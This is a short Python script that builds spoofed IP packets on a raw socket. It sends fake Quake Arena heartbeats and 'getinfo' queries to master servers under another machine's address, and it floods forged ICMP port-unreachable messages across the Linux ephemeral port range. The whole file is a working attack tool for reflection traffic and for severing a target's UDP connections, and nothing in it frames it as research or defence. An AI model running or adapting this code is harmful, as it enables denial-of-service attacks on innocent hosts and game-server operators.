"""Sends packets under the address of another machine, by a raw socket.

heartbeats FROM TO S   of a game server, six each 3 s: a master server asks back no more often
questions FROM TO S    of a master server, 50 in a second
refusals FROM TO S     that the UDP port of FROM is closed, to each port of TO that a system gives out

FROM and TO are ADDRESS:PORT. It goes on for S seconds.
"""
import socket
import struct
import sys
import time

# Those that Linux gives out.
PORTS = range(32768, 61000)


def address_of(text):
    host, _, port = text.partition(":")
    return socket.inet_aton(host), int(port or 0)


def ip_header(source, target, protocol, length):
    # The system adds the checksum.
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0, 64, protocol, 0, source, target)


def udp_packet(source, target, content):
    (from_host, from_port), (to_host, to_port) = source, target
    length = 8 + len(content)
    header = struct.pack("!HHHH", from_port, to_port, length, 0)
    return ip_header(from_host, to_host, socket.IPPROTO_UDP, length) + header + content


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def refusal(source, target):
    refused = udp_packet(target, source, b"")
    rest = struct.pack("!HH", 0, 0) + refused
    message = struct.pack("!BBH", 3, 3, checksum(struct.pack("!BBH", 3, 3, 0) + rest)) + rest
    return ip_header(source[0], target[0], socket.IPPROTO_ICMP, len(message)) + message


PREFIX = b"\xff\xff\xff\xff"
what, source, target = sys.argv[1], address_of(sys.argv[2]), address_of(sys.argv[3])
until = time.monotonic() + float(sys.argv[4])
to = (socket.inet_ntoa(target[0]), 0)
refusals = [refusal(source, (target[0], port)) for port in PORTS] if what == "refusals" else []
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
while time.monotonic() < until:
    if what == "heartbeats":
        for _ in range(6):
            sender.sendto(udp_packet(source, target, PREFIX + b"heartbeat QuakeArena-1\n"), to)
            time.sleep(0.1)
        time.sleep(2.5)
    elif what == "questions":
        sender.sendto(udp_packet(source, target, PREFIX + b"getinfo xxx"), to)
        time.sleep(0.02)
    else:
        for packet in refusals:
            sender.sendto(packet, to)
